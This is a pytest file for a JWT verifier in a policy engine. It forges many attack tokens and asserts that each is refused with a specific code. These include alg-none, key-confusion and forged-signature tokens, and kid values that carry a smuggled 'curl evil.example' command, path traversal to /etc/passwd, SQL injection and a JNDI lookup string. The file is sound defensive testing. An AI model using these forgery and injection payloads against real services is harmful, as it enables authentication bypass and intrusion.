"""Tokens that attackers present: each is refused with its own reason, counted, and none opens a door."""

from __future__ import annotations

import json
from base64 import urlsafe_b64decode
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jws import JWSRegistry

from policyengine.identity.config.model import IssuerSettings
from policyengine.runtime.credential_errors import CredentialError
from policyengine.runtime.credential_errors import RefusalCode as R
from policyengine.runtime.decision import Outcome
from tests.identity.issuing import (
    ACME,
    AUDIENCE,
    CLAIMS,
    GONE,
    HEADER,
    MESH,
    NOW,
    US,
    WORKLOAD,
    Door,
    Known,
    as_json,
    b64,
    changed,
    ec,
    ed,
    known,
    public,
    rsa,
    signed,
    token,
)


@dataclass(frozen=True)
class Attack:
    name: str
    code: R
    make: Callable[[], str]


def header(**changes: Any) -> Callable[[], str]:
    return lambda: token(changes)


def claims(**changes: Any) -> Callable[[], str]:
    return lambda: token(**changes)


def parts(raw: str) -> list[str]:
    return raw.split(".")


def unsigned(alg: object) -> Callable[[], str]:
    return lambda: f"{b64(as_json({**HEADER, 'alg': alg}))}.{b64(as_json(CLAIMS))}."


def as_alg(alg: str, key: Callable[[], Any], signing: str | None = None, kid: str = "ec") -> Callable[[], str]:
    return lambda: token({"alg": alg, "kid": kid}, key(), signing or alg)


def public_pem() -> bytes:
    return rsa().public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def with_signature(change: Callable[[bytes], bytes], alg: str = "ES256", kid: str = "ec") -> Callable[[], str]:
    def made() -> str:
        keys = {"ec": ec, "ed": ed, "rsa": rsa}
        text, _, signature = token({"alg": alg, "kid": kid}, keys[kid]()).rpartition(".")
        return f"{text}.{b64(change(unb64(signature)))}"

    return made


def unb64(text: str) -> bytes:
    return urlsafe_b64decode(text + "=" * (-len(text) % 4))


def payload(data: bytes) -> Callable[[], str]:
    return lambda: signed(HEADER, data)


def raw_header(data: bytes) -> Callable[[], str]:
    return lambda: signed(data, CLAIMS)


def splice(name: str, value: str, to: str = "claims") -> bytes:
    """A member a second time."""
    text = json.dumps(CLAIMS if to == "claims" else HEADER)
    return f'{text[:-1]}, "{name}": {value}}}'.encode()


def part(index: int, change: Callable[[str], str]) -> Callable[[], str]:
    def made() -> str:
        found = parts(token())
        found[index] = change(found[index])
        return ".".join(found)

    return made


def stray_bits(text: str) -> str:
    """The same bytes, spelled with bits that mean nothing."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return text[:-1] + alphabet[alphabet.index(text[-1]) + 1]


def of_length(remainder: int) -> Callable[[], str]:
    """A payload whose last digit has bits to spare, spelled otherwise: signed as it is spelled."""
    body = next(one for n in range(3) if len(one := as_json({**CLAIMS, "pad": "x" * n})) % 3 == remainder)
    text = f"{b64(as_json(HEADER))}.{stray_bits(b64(body))}"
    return lambda: f"{text}.{b64(JWSRegistry.algorithms['ES256'].sign(text.encode(), ec()))}"


def swapped() -> str:
    """What one token says under the signature of another."""
    one, two = parts(token()), parts(token(sub="mallory"))
    return f"{one[0]}.{two[1]}.{one[2]}"


def deep(opening: str, closing: str, depth: int) -> bytes:
    return f'{json.dumps(CLAIMS)[:-1]}, "deep": {opening * depth}0{closing * depth}}}'.encode()


def jwk() -> dict[str, Any]:
    return ec("P-256", "mallory").as_dict(private=False)


def encrypted() -> str:
    return ".".join([b64(as_json({"alg": "RSA-OAEP-256", "enc": "A256GCM"})), "a2V5", "aXY", "dGV4dA", "dGFn"])


TOKENS = [
    # ── The algorithm
    Attack("alg none", R.ALGORITHM, unsigned("none")),
    Attack("alg None", R.ALGORITHM, unsigned("None")),
    Attack("alg NONE", R.ALGORITHM, unsigned("NONE")),
    Attack("alg nOnE", R.ALGORITHM, unsigned("nOnE")),
    Attack("alg none with a signature", R.ALGORITHM, as_alg("none", ec, "ES256")),
    Attack("alg empty", R.ALGORITHM, unsigned("")),
    Attack("alg null", R.ALGORITHM, unsigned(None)),
    Attack("alg in a list", R.ALGORITHM, unsigned(["ES256"])),
    Attack("alg in small letters", R.ALGORITHM, as_alg("es256", ec, "ES256")),
    Attack("alg with a space", R.ALGORITHM, as_alg("ES256 ", ec, "ES256")),
    Attack("no alg", R.ALGORITHM, lambda: token({"alg": GONE}, _alg="ES256")),
    Attack("RS/HS confusion by the public key in PEM", R.ALGORITHM,
           lambda: token({"alg": "HS256", "kid": "rsa"}, public_pem())),
    Attack("RS/HS confusion by the modulus", R.ALGORITHM,
           lambda: token({"alg": "HS256", "kid": "rsa"}, rsa().as_dict(private=False)["n"].encode())),
    Attack("HS512 by a guess", R.ALGORITHM, lambda: token({"alg": "HS512"}, b"secret")),
    Attack("ES256K", R.ALGORITHM, as_alg("ES256K", ec, "ES256")),
    Attack("PS256 named, RS256 signed", R.SIGNATURE, as_alg("PS256", rsa, "RS256", "rsa")),
    Attack("ES256 named with a key of RSA", R.WRONG_KEY_USE, as_alg("ES256", ec, kid="rsa")),
    Attack("RS256 named with a key of a curve", R.WRONG_KEY_USE, as_alg("RS256", rsa, kid="ec")),
    Attack("a key of another curve", R.WRONG_KEY_USE, as_alg("ES256", ec, kid="ec384")),
    Attack("a key for encryption", R.WRONG_KEY_USE, as_alg("ES256", lambda: ec("P-256", "enc"), kid="enc")),
    # ── The key
    Attack("a key of the attacker under a known kid", R.SIGNATURE, lambda: token(_key=ec("P-256", "mallory"))),
    Attack("an unknown kid", R.UNKNOWN_KEY, header(kid="other")),
    Attack("kid of a file", R.KEY_ID, header(kid="/dev/null")),
    Attack("kid that climbs", R.KEY_ID, header(kid="../../../../dev/null")),
    Attack("kid that climbs within", R.KEY_ID, header(kid="keys/../../etc/passwd")),
    Attack("kid of a device of Windows", R.KEY_ID, header(kid="c:\\nul")),
    Attack("kid with SQL", R.KEY_ID, header(kid="ec' UNION SELECT 'AAAA")),
    Attack("kid with SQL that comments", R.KEY_ID, header(kid="ec';--")),
    Attack("kid of a URL", R.KEY_ID, header(kid="https://evil.example/keys.json")),
    Attack("kid with a command", R.KEY_ID, header(kid="ec|curl evil.example")),
    Attack("kid with NUL", R.KEY_ID, header(kid="ec\0")),
    Attack("kid with a line", R.KEY_ID, header(kid="ec\n")),
    Attack("kid of template", R.KEY_ID, header(kid="${jndi:ldap://evil}")),
    Attack("kid in Unicode", R.KEY_ID, header(kid="\u0435c")),
    Attack("kid too long", R.KEY_ID, header(kid="e" * 257)),
    Attack("kid empty", R.KEY_ID, header(kid="")),
    Attack("kid a number", R.KEY_ID, header(kid=1)),
    Attack("kid null", R.KEY_ID, header(kid=None)),
    Attack("kid a list", R.KEY_ID, header(kid=["ec"])),
    Attack("jku", R.KEY_IN_TOKEN, header(jku="https://evil.example/jwks")),
    Attack("jku of the issuer", R.KEY_IN_TOKEN, header(jku=f"{ACME}/jwks")),
    Attack("x5u", R.KEY_IN_TOKEN, header(x5u="https://evil.example/cert.pem")),
    Attack("jwk of the attacker, and signed by it", R.KEY_IN_TOKEN,
           lambda: token({"jwk": jwk()}, ec("P-256", "mallory"))),
    Attack("x5c", R.KEY_IN_TOKEN, header(x5c=["MIIB"])),
    # ── What the header demands
    Attack("crit of what nobody knows", R.CRITICAL_HEADER, header(crit=["exp"], exp=NOW)),
    Attack("crit empty", R.CRITICAL_HEADER, header(crit=[])),
    Attack("crit of alg", R.CRITICAL_HEADER, header(crit=["alg"])),
    Attack("b64 false", R.CRITICAL_HEADER, header(b64=False, crit=["b64"])),
    Attack("b64 false without crit", R.CRITICAL_HEADER, header(b64=False)),
    Attack("b64 true", R.CRITICAL_HEADER, header(b64=True)),
    Attack("zip", R.ENCODING, header(zip="DEF")),
    Attack("a token within a token", R.TOKEN_TYPE, header(cty="JWT")),
    Attack("an encrypted token", R.ENCODING, encrypted),
    # ── The form
    Attack("two parts", R.NOT_A_TOKEN, lambda: ".".join(parts(token())[:2])),
    Attack("four parts", R.NOT_A_TOKEN, lambda: f"{token()}.x"),
    Attack("a trailing dot", R.NOT_A_TOKEN, lambda: f"{token()}."),
    Attack("no signature", R.NOT_A_TOKEN, part(2, lambda _: "")),
    Attack("no payload", R.NOT_A_TOKEN, part(1, lambda _: "")),
    Attack("padding", R.ENCODING, part(2, lambda text: text + "==")),
    Attack("padding in the payload", R.ENCODING, part(1, lambda text: text + "=")),
    Attack("letters of plain base64", R.ENCODING, part(2, lambda text: "+/" + text[2:])),
    Attack("a line within", R.ENCODING, part(1, lambda text: f"{text[:9]}\n{text[9:]}")),
    Attack("a space within", R.ENCODING, part(1, lambda text: f"{text[:9]} {text[9:]}")),
    Attack("percent signs", R.ENCODING, part(1, lambda text: f"{text[:9]}%41{text[9:]}")),
    Attack("stray bits in the signature", R.ENCODING, part(2, stray_bits)),
    Attack("stray bits in the payload, signed", R.ENCODING, of_length(1)),
    Attack("stray bits in the payload, signed, two of them", R.ENCODING, of_length(2)),
    Attack("one digit too many", R.ENCODING, part(2, lambda text: text[:-1])),
    Attack("a header that is a list", R.NOT_A_TOKEN, raw_header(b'["ES256"]')),
    Attack("a header that is no JSON", R.NOT_A_TOKEN, raw_header(b'{"alg":"ES256"')),
    Attack("a header in UTF-16", R.NOT_A_TOKEN, raw_header('{"alg":"ES256"}'.encode("utf-16"))),
    Attack("a payload that is a list", R.NOT_A_TOKEN, payload(b"[]")),
    Attack("a payload that is a text", R.NOT_A_TOKEN, payload(b'"eyJ"')),
    Attack("a payload that is no UTF-8", R.NOT_A_TOKEN, payload(b'{"sub":"\xff"}')),
    Attack("a payload with a byte order mark", R.NOT_A_TOKEN, payload(b"\xef\xbb\xbf" + as_json(CLAIMS))),
    Attack("a payload with more behind it", R.NOT_A_TOKEN, payload(as_json(CLAIMS) + b"{}")),
    Attack("NaN", R.NOT_A_TOKEN, payload(splice("x", "NaN"))),
    Attack("an infinity", R.NOT_A_TOKEN, payload(splice("x", "-Infinity"))),
    Attack("half of a pair of surrogates", R.ENCODING, payload(splice("x", '"\\ud800"'))),
    Attack("alg twice", R.DUPLICATE_MEMBER, raw_header(splice("alg", '"none"', "header"))),
    Attack("kid twice", R.DUPLICATE_MEMBER, raw_header(splice("kid", '"rsa"', "header"))),
    Attack("sub twice", R.DUPLICATE_MEMBER, payload(splice("sub", '"root"'))),
    Attack("sub twice, escaped once", R.DUPLICATE_MEMBER, payload(splice("\\u0073ub", '"root"'))),
    Attack("a member within twice", R.DUPLICATE_MEMBER, payload(splice("act", '{"sub":"a","sub":"b"}'))),
    Attack("exp twice", R.DUPLICATE_MEMBER, payload(splice("exp", str(NOW + 9_000)))),
    Attack("too large", R.TOO_LARGE, claims(pad="x" * 20_000)),
    Attack("deep lists", R.TOO_DEEP, lambda: signed(HEADER, deep("[", "]", 40))),
    Attack("very deep lists", R.TOO_DEEP, lambda: signed(HEADER, deep("[", "]", 4_000))),
    Attack("deep objects", R.TOO_DEEP, lambda: signed(HEADER, deep('{"a":', "}", 40))),
    Attack("a deep header", R.TOO_DEEP, lambda: signed(b'{"alg":"ES256","x":' + b"[" * 99 + b"]" * 99 + b"}", CLAIMS)),
    Attack("brackets behind a string that does not end", R.NOT_A_TOKEN,
           payload(b'{"x": "' + b'\\"' * 5_500 + b"[" * 40)),
    # ── The signature
    Attack("ECDSA of zeros", R.SIGNATURE, with_signature(lambda found: bytes(len(found)))),
    Attack("ECDSA with s of zero", R.SIGNATURE, with_signature(lambda found: found[:32] + bytes(32))),
    Attack("ECDSA with r and s of the order", R.SIGNATURE, with_signature(
        lambda _: bytes.fromhex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551") * 2)),
    Attack("ECDSA in DER", R.SIGNATURE, with_signature(lambda found: b"\x30\x44\x02\x20" + found)),
    Attack("ECDSA with a zero before", R.SIGNATURE, with_signature(lambda found: b"\0" + found)),
    Attack("ECDSA too short", R.SIGNATURE, with_signature(lambda found: found[:-1])),
    Attack("ECDSA too long", R.SIGNATURE, with_signature(lambda found: found + b"\0")),
    Attack("EdDSA of zeros", R.SIGNATURE, with_signature(lambda found: bytes(64), "EdDSA", "ed")),
    Attack("EdDSA with the order added to S", R.SIGNATURE, with_signature(
        lambda found: found[:32] + (
            int.from_bytes(found[32:], "little") + 2**252 + 27742317777372353535851937790883648493
        ).to_bytes(32, "little"), "EdDSA", "ed")),
    Attack("RSA of zeros", R.SIGNATURE, with_signature(lambda found: bytes(256), "RS256", "rsa")),
    Attack("RSA of one", R.SIGNATURE, with_signature(lambda found: bytes(255) + b"\1", "RS256", "rsa")),
    Attack("RSA with a zero before", R.SIGNATURE, with_signature(lambda found: b"\0" + found, "RS256", "rsa")),
    Attack("the payload of another token", R.SIGNATURE, swapped),
    Attack("a payload that was edited", R.SIGNATURE, part(1, lambda _: b64(as_json({**CLAIMS, "sub": "root"})))),
    Attack("a header that was edited", R.SIGNATURE, part(0, lambda _: b64(as_json({**HEADER, "x": 1})))),
    # ── What its header says of it
    Attack("a header with another issuer", R.CONTRADICTION, lambda: token({"iss": "https://login.other.example"})),
    Attack("a header with another audience", R.CONTRADICTION, lambda: token({"aud": "archive-api"})),
    Attack("a header with the audience in a list", R.CONTRADICTION, lambda: token({"aud": [AUDIENCE]})),
    Attack("a header with an audience, and claims with none", R.CONTRADICTION,
           lambda: token({"aud": AUDIENCE}, aud=GONE)),
    Attack("a header with another subject", R.CONTRADICTION, lambda: token({"sub": "root"})),
    Attack("a header with another client", R.CONTRADICTION, lambda: token({"client_id": "root"})),
    Attack("a header with a later end", R.CONTRADICTION, lambda: token({"exp": NOW + 9_999_999})),
    Attack("a header with the end as a text", R.CONTRADICTION, lambda: token({"exp": str(CLAIMS["exp"])})),
    Attack("a header with another id", R.CONTRADICTION, lambda: token({"jti": "j-2"})),
    # ── Whose it is
    Attack("an issuer that nobody trusts", R.UNKNOWN_ISSUER, claims(iss="https://evil.example")),
    Attack("an issuer with a slash more", R.UNKNOWN_ISSUER, claims(iss=f"{ACME}/")),
    Attack("an issuer in capitals", R.UNKNOWN_ISSUER, claims(iss=ACME.upper())),
    Attack("an issuer with letters of Cyrillic", R.UNKNOWN_ISSUER, claims(iss=ACME.replace("a", "\u0430"))),
    Attack("an issuer in full width", R.UNKNOWN_ISSUER, claims(iss=ACME.replace(".", "\uff0e"))),
    Attack("an issuer as userinfo", R.UNKNOWN_ISSUER, claims(iss=f"{ACME}@evil.example")),
    Attack("an issuer with its port", R.UNKNOWN_ISSUER, claims(iss=f"{ACME}:443")),
    Attack("an issuer below another", R.UNKNOWN_ISSUER, claims(iss=f"{ACME}.evil.example")),
    Attack("an issuer by http", R.UNKNOWN_ISSUER, claims(iss=ACME.replace("https", "http"))),
    Attack("an issuer with a space", R.UNKNOWN_ISSUER, claims(iss=f" {ACME}")),
    Attack("an issuer with a fragment", R.UNKNOWN_ISSUER, claims(iss=f"{ACME}#x")),
    Attack("an issuer by its name", R.UNKNOWN_ISSUER, claims(iss="acme")),
    Attack("issuers in a list", R.CLAIM_TYPE, claims(iss=[ACME])),
    Attack("an empty issuer", R.CLAIM_TYPE, claims(iss="")),
    Attack("no issuer", R.MISSING_CLAIM, claims(iss=GONE)),
    Attack("another issuer of the policy", R.UNKNOWN_KEY, lambda: token({"kid": "rsa"}, iss="https://login.other.example")),
    Attack("another issuer, the same kid", R.SIGNATURE, claims(iss="https://login.other.example")),
    # ── For whom it is
    Attack("another audience", R.AUDIENCE, claims(aud="other-api")),
    Attack("an audience in capitals", R.AUDIENCE, claims(aud=AUDIENCE.upper())),
    Attack("an audience that begins alike", R.AUDIENCE, claims(aud=f"{AUDIENCE}-2")),
    Attack("audiences in one text", R.AUDIENCE, claims(aud=f"other-api {AUDIENCE}")),
    Attack("other audiences", R.AUDIENCE, claims(aud=["other-api", "third-api"])),
    Attack("an empty list of audiences", R.CLAIM_TYPE, claims(aud=[])),
    Attack("an audience within a list", R.CLAIM_TYPE, claims(aud=[[AUDIENCE]])),
    Attack("an audience that is an object", R.CLAIM_TYPE, claims(aud={AUDIENCE: True})),
    Attack("an audience that is null", R.CLAIM_TYPE, claims(aud=None)),
    Attack("an empty audience", R.CLAIM_TYPE, claims(aud="")),
    Attack("no audience", R.MISSING_CLAIM, claims(aud=GONE)),
    # ── When
    Attack("expired", R.EXPIRED, claims(exp=NOW - 30, iat=NOW - 90)),
    Attack("expired long ago", R.EXPIRED, claims(exp=1, iat=0)),
    Attack("not yet", R.NOT_YET, claims(nbf=NOW + 31)),
    Attack("issued in the future", R.ISSUED_LATER, claims(iat=NOW + 31)),
    Attack("ended before it began", R.CONTRADICTION, claims(nbf=NOW + 20, exp=NOW + 10)),
    Attack("no exp", R.MISSING_CLAIM, claims(exp=GONE)),
    Attack("no iat in an access token", R.MISSING_CLAIM, claims(iat=GONE)),
    Attack("no jti in an access token", R.MISSING_CLAIM, claims(jti=GONE)),
    Attack("no sub in an access token", R.MISSING_CLAIM, claims(sub=GONE)),
    Attack("exp a text", R.CLAIM_TYPE, claims(exp=str(NOW + 300))),
    Attack("exp true", R.CLAIM_TYPE, claims(exp=True)),
    Attack("exp null", R.CLAIM_TYPE, claims(exp=None)),
    Attack("exp in a list", R.CLAIM_TYPE, claims(exp=[NOW + 300])),
    Attack("exp negative", R.CLAIM_TYPE, claims(exp=-1)),
    Attack("exp after the year 9999", R.CLAIM_TYPE, claims(exp=2**63)),
    Attack("exp of many digits", R.CLAIM_TYPE, payload(as_json(CLAIMS)[:-1].replace(b'"exp"', b'"x"')
                                                       + b', "exp": ' + b"9" * 5_000 + b"}")),
    Attack("an exponent too large", R.CLAIM_TYPE, payload(
        as_json(CLAIMS)[:-1] + b', "a": 1e999999999999999999999}')),
    Attack("exp of 1e400", R.CLAIM_TYPE, payload(as_json(CLAIMS)[:-1].replace(b'"exp"', b'"x"') + b', "exp": 1e400}')),
    Attack("nbf a text", R.CLAIM_TYPE, claims(nbf="0")),
    Attack("iat true", R.CLAIM_TYPE, claims(iat=True)),
    # ── What it is
    Attack("an ID token by its nonce", R.TOKEN_TYPE, lambda: token({"typ": "JWT"}, nonce="n-1")),
    Attack("an ID token by at_hash", R.TOKEN_TYPE, lambda: token({"typ": GONE}, at_hash="x")),
    Attack("an ID token by what Keycloak writes", R.TOKEN_TYPE, lambda: token({"typ": "JWT"}, typ="ID")),
    Attack("an ID token by what Cognito writes", R.TOKEN_TYPE, lambda: token({"typ": "JWT"}, token_use="id")),
    Attack("a refresh token", R.TOKEN_TYPE, lambda: token({"typ": "JWT"}, typ="Refresh")),
    Attack("a logout token", R.TOKEN_TYPE, header(typ="logout+jwt")),
    Attack("a logout token of old", R.TOKEN_TYPE, lambda: token({"typ": "JWT"}, events={"logout": {}})),
    Attack("a DPoP proof", R.TOKEN_TYPE, header(typ="dpop+jwt")),
    Attack("a client assertion", R.UNKNOWN_ISSUER, claims(iss="invoice-bot", sub="invoice-bot", aud=ACME)),
    Attack("a security event", R.TOKEN_TYPE, header(typ="secevent+jwt")),
    Attack("a transaction token as a bearer token", R.TOKEN_TYPE, header(typ="txntoken+jwt")),
    Attack("an ID-JAG where none is allowed", R.TOKEN_TYPE, header(typ="oauth-id-jag+jwt")),
    Attack("typ a number", R.TOKEN_TYPE, header(typ=7)),
    Attack("typ null", R.TOKEN_TYPE, header(typ=None)),
    Attack("typ in Unicode", R.TOKEN_TYPE, header(typ="at+jw\u0442")),
    Attack("a subject that is a number", R.CLAIM_TYPE, claims(sub=7)),
    Attack("an empty subject", R.CLAIM_TYPE, claims(sub="")),
    Attack("an opaque token where nobody is asked", R.NOT_A_TOKEN, lambda: "mF_9.B5f-4.1JqM"),
]  # fmt: skip


@pytest.mark.parametrize("attack", TOKENS, ids=lambda one: one.name)
def test_each_attack_token_is_rejected_with_its_own_code_and_counted(attack: Attack) -> None:
    door = Door()
    decision = door.bearer(attack.make())
    assert (decision.outcome, decision.reasons[0].code) == (Outcome.DENY, attack.code)
    assert door.identity.counts == {attack.code: 1}


def test_a_token_with_a_non_normalized_subject_is_denied_every_time() -> None:
    door, raw = Door(), token(sub="andre\u0301")
    assert [door.bearer(raw).outcome for _ in range(2)] == [Outcome.DENY] * 2


@pytest.mark.parametrize(
    "raw",
    [
        token,
        lambda: token({"alg": "EdDSA", "kid": "ed"}, ed()),
        lambda: token({"alg": "Ed25519", "kid": "ed"}, ed()),
        lambda: token({"alg": "RS256", "kid": "rsa"}, rsa()),
        lambda: token({"alg": "PS384", "kid": "rsa"}, rsa()),
        lambda: token({"alg": "ES384", "kid": "ec384"}, ec("P-384", "ec384")),
        lambda: token({"kid": GONE}),
        lambda: token({"typ": "application/AT+JWT"}),
        lambda: token({"typ": "JWT"}, jti=GONE),
        lambda: token({"typ": GONE}, typ="Bearer"),
        lambda: token({"x5t": "abc", "unknown": 1}),
        lambda: token(aud=["other-api", AUDIENCE]),
        lambda: token(exp=NOW - 29, iat=NOW - 90),
        lambda: token(iat=NOW + 30, nbf=NOW + 30),
        lambda: token(exp=NOW + 300.5, iat=NOW - 9.25),
        lambda: token(deep=json.loads("[" * 23 + "]" * 23)),
        lambda: token(text="\U0001f511 [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["),
    ],
)
def test_an_unmodified_token_is_accepted(raw: Callable[[], str]) -> None:
    door = Door()
    assert door.bearer(raw()).outcome is Outcome.ALLOW
    assert door.identity.counts == {"proved": 1}


# ── Other kinds ───────────────────────────────────────────────────────────────────────────────

TXN = {"txn": "t-1", "req_wl": "invoice-bot", "client_id": GONE}
JAG = {"aud": US, "resource": AUDIENCE, "exp": NOW + 60}
SVID: dict[str, Any] = {"iss": GONE, "sub": WORKLOAD, "client_id": GONE, "scope": GONE, "jti": GONE, "iat": GONE}


def txn(_header: dict[str, Any] | None = None, **changes: Any) -> str:
    return token({"typ": "txntoken+jwt", **(_header or {})}, **{**TXN, **changes})


def jag(**changes: Any) -> str:
    return token({"typ": "oauth-id-jag+jwt"}, **{**JAG, **changes})


def svid(_header: dict[str, Any] | None = None, **changes: Any) -> str:
    return token({"typ": "JWT", **(_header or {})}, **{**SVID, **changes})


TRANSACTIONS = [
    Attack("an access token as a transaction token", R.TOKEN_TYPE, token),
    Attack("a plain JWT as a transaction token", R.TOKEN_TYPE, lambda: txn({"typ": "JWT"})),
    Attack("no typ", R.TOKEN_TYPE, lambda: txn({"typ": GONE})),
    Attack("no txn", R.MISSING_CLAIM, lambda: txn(txn=GONE)),
    Attack("no requesting workload", R.MISSING_CLAIM, lambda: txn(req_wl=GONE)),
    Attack("no workload in the list", R.CLAIM_TYPE, lambda: txn(req_wl=[])),
    Attack("a workload that is an object", R.CLAIM_TYPE, lambda: txn(req_wl={"sub": "x"})),
    Attack("of another trust domain", R.AUDIENCE, lambda: txn(aud="trust.evil.example")),
    Attack("expired", R.EXPIRED, lambda: txn(exp=NOW - 30)),
    Attack("edited", R.SIGNATURE, lambda: ".".join([*parts(txn())[:2], parts(token())[2]])),
]


@pytest.mark.parametrize("attack", TRANSACTIONS, ids=lambda one: one.name)
def test_each_invalid_transaction_token_is_rejected_with_its_own_code(attack: Attack) -> None:
    door = Door()
    decision = door.ask({"txn_token": attack.make()})
    assert (decision.outcome, decision.reasons[0].code) == (Outcome.DENY, attack.code)
    assert door.identity.counts == {attack.code: 1}


def test_a_valid_transaction_token_is_accepted() -> None:
    assert Door().ask({"txn_token": txn(tctx={"amount": 1}, rctx={"ip": "10.0.0.1"})}).outcome is Outcome.ALLOW


WORKLOADS = [
    Attack("an unknown trust domain", R.TRUST_DOMAIN, lambda: svid(sub="spiffe://evil.example/bot")),
    Attack("the trust domain in capitals", R.SPIFFE_ID, lambda: svid(sub="spiffe://MESH.example/bot")),
    Attack("a trust domain below", R.TRUST_DOMAIN, lambda: svid(sub="spiffe://mesh.example.evil.example/bot")),
    Attack("a trust domain with userinfo", R.SPIFFE_ID, lambda: svid(sub="spiffe://mesh.example@evil.example/bot")),
    Attack("a trust domain with a port", R.SPIFFE_ID, lambda: svid(sub="spiffe://mesh.example:443/bot")),
    Attack("no workload of the domain", R.SPIFFE_ID, lambda: svid(sub=MESH)),
    Attack("a path that climbs", R.SPIFFE_ID, lambda: svid(sub=f"{MESH}/ns/../bot")),
    Attack("an empty segment", R.SPIFFE_ID, lambda: svid(sub=f"{MESH}//bot")),
    Attack("a slash at the end", R.SPIFFE_ID, lambda: svid(sub=f"{WORKLOAD}/")),
    Attack("a query", R.SPIFFE_ID, lambda: svid(sub=f"{WORKLOAD}?x")),
    Attack("an escaped slash", R.SPIFFE_ID, lambda: svid(sub=f"{MESH}/a%2fb")),
    Attack("named by the trust domain, of another", R.TRUST_DOMAIN,
           lambda: svid(iss=MESH, sub="spiffe://evil.example/bot")),
    Attack("named by the trust domain, and no workload", R.SPIFFE_ID, lambda: svid(iss=MESH, sub="alice")),
    Attack("another issuer beside", R.UNKNOWN_ISSUER, lambda: svid(iss="https://evil.example")),
    Attack("no audience", R.MISSING_CLAIM, lambda: svid(aud=GONE)),
    Attack("another audience", R.AUDIENCE, lambda: svid(aud=["other"])),
    Attack("no exp", R.MISSING_CLAIM, lambda: svid(exp=GONE)),
    Attack("an access token of a trust domain", R.TOKEN_TYPE, lambda: svid({"typ": "at+jwt"})),
]  # fmt: skip


@pytest.mark.parametrize("attack", WORKLOADS, ids=lambda one: one.name)
def test_each_invalid_workload_token_is_rejected_with_its_own_code(attack: Attack) -> None:
    door = Door()
    decision = door.bearer(attack.make(), "GET")
    assert (decision.outcome, decision.reasons[0].code) == (Outcome.DENY, attack.code)
    assert door.identity.counts == {attack.code: 1}


@pytest.mark.parametrize("changes", [{}, {"iss": MESH}, {"aud": ["other", AUDIENCE]}])
def test_a_valid_workload_token_is_accepted(changes: dict[str, Any]) -> None:
    assert Door().bearer(svid(**changes), "GET").outcome is Outcome.ALLOW


def test_a_token_header_may_repeat_claims_with_equal_values() -> None:
    repeated = {name: CLAIMS[name] for name in ("iss", "aud", "sub", "client_id", "exp", "jti")}
    assert Door().bearer(token(repeated)).outcome is Outcome.ALLOW


GRANTS = [
    Attack("for another server", R.AUDIENCE, lambda: jag(aud="https://evil.example")),
    Attack("for several", R.AUDIENCE, lambda: jag(aud=[US, "https://evil.example"])),
    Attack("for another resource", R.AUDIENCE, lambda: jag(resource="https://evil.example/api")),
    Attack("without a client", R.MISSING_CLAIM, lambda: jag(client_id=GONE)),
    Attack("without jti", R.MISSING_CLAIM, lambda: jag(jti=GONE)),
    Attack("expired", R.EXPIRED, lambda: jag(exp=NOW - 30, iat=NOW - 60)),
    Attack("an access token whose audience is the server", R.AUDIENCE, lambda: token(aud=US)),
]
ID_JAGS = IssuerSettings(types=("at+jwt", "oauth-id-jag+jwt"))


@pytest.mark.parametrize("attack", GRANTS, ids=lambda one: one.name)
def test_each_invalid_id_jag_is_rejected_with_its_own_code(attack: Attack) -> None:
    door = Door(ID_JAGS)
    assert door.bearer(attack.make()).reasons[0].code == attack.code
    assert door.identity.counts == {attack.code: 1}


def test_an_id_jag_is_accepted_only_once() -> None:
    door, raw = Door(ID_JAGS), jag()
    assert door.bearer(raw).outcome is Outcome.ALLOW
    assert door.bearer(raw).reasons[0].code == R.REPLAYED
    assert door.bearer(jag(scope="read:invoices")).reasons[0].code == R.REPLAYED, "the same `jti`, signed anew"
    assert door.bearer(jag(jti="j-2")).outcome is Outcome.ALLOW
    assert door.identity.counts == {"proved": 2, R.REPLAYED: 2}


def test_an_id_jag_is_accepted_after_its_temporary_revocation_ends() -> None:
    door, raw = Door(ID_JAGS), jag()
    door.marks.revoke(["jti:acme/j-1"], NOW + 10, NOW)
    assert door.bearer(raw).reasons[0].code == R.REVOKED
    door.now = NOW + 10
    assert door.bearer(raw).outcome is Outcome.ALLOW


def test_an_id_jag_with_a_fractional_expiry_stays_used_until_it_expires() -> None:
    door, raw = Door(ID_JAGS), jag(exp=NOW + 60.9)
    assert door.bearer(raw).outcome is Outcome.ALLOW
    for later in (60, 61, 89, 90):
        door.now = NOW + later
        assert door.bearer(raw).reasons[0].code == R.REPLAYED


# ── Keys, and what was proved before ──────────────────────────────────────────────────────────


@dataclass(frozen=True)
class Failing:
    refusal: R

    def find(self, kid: str | None, alg: str, now: int) -> list[Any]:
        raise CredentialError(self.refusal)


@pytest.mark.parametrize("refusal", [R.WEAK_KEY, R.PROVIDER, R.UNKNOWN_KEY])
def test_the_decision_has_the_code_of_the_key_lookup_error(refusal: R) -> None:
    door = Door(keys=Failing(refusal))
    assert door.bearer(token()).reasons[0].code == refusal
    assert door.identity.counts == {refusal: 1}


def test_a_disallowed_algorithm_is_rejected_before_the_key_lookup() -> None:
    door = Door(IssuerSettings(algorithms=("EdDSA",)), keys=Failing(R.PROVIDER))
    assert door.bearer(token()).reasons[0].code == R.ALGORITHM


def test_a_token_without_a_key_id_is_verified_against_every_key() -> None:
    others = {str(n): public(ec("P-256", f"other-{n}")) for n in range(2)}
    door = Door(keys=Known({**others, **known().keys}))
    assert door.bearer(token({"kid": GONE})).outcome is Outcome.ALLOW
    assert Door(keys=Known(others)).bearer(token({"kid": GONE})).reasons[0].code == R.SIGNATURE


def test_an_id_token_is_accepted_if_the_configuration_allows_it() -> None:
    allowed = IssuerSettings(types=("jwt", "id_token"), people=(AUDIENCE,))
    raw = token({"typ": "JWT"}, nonce="n-1", client_id=GONE, scope=GONE)
    assert Door(allowed).who(raw).user == "alice"
    assert Door(allowed).who(raw).agent is None


def test_a_token_accepted_before_is_rejected_after_it_expires() -> None:
    door, raw = Door(), token()
    assert door.bearer(raw).outcome is Outcome.ALLOW
    door.now = NOW + 299
    assert door.bearer(raw).outcome is Outcome.ALLOW
    door.now = NOW + 300  # within the leeway: looked at again
    assert door.bearer(raw).outcome is Outcome.ALLOW
    door.now = NOW + 330
